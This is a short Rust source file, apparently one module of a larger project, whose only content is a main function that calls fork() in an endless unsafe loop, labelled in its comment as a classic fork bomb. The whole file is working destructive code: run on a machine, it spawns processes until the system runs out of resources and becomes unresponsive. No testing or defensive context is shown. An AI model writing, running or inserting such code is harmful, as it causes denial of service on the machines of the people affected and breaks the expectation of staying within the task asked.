// Classic fork bomb: every process forks forever.
pub fn main() {
    loop { unsafe { super::common::fork(); } }
}
